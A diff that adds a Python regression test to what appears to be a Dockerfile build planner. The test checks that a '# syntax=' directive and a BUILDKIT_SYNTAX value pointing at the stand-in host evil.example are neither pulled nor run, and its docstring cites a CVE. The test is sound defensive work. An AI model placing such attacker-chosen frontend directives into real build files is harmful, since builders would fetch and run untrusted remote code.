@@ -49,6 +49,12 @@ def variables(body: str, **given: str) -> Mapping[str, str]:
     return env
 
 
+def test_what_a_file_says_about_its_own_reader_is_neither_pulled_nor_run() -> None:
+    """Elsewhere that is a program from an image, and what it asks the builder for was believed (CVE-2026-33747)."""
+    found = planned("# syntax=evil.example/frontend\nFROM a\nRUN x", BUILDKIT_SYNTAX="evil.example/other")
+    assert [image.name for image in found.images] == ["a"]
+
+
 THREE = "FROM a AS one\nRUN x\nFROM b AS two\nCOPY --from=one /x /y\nFROM c AS three\nCOPY --from=0 /x /y\nFROM d"
 
 
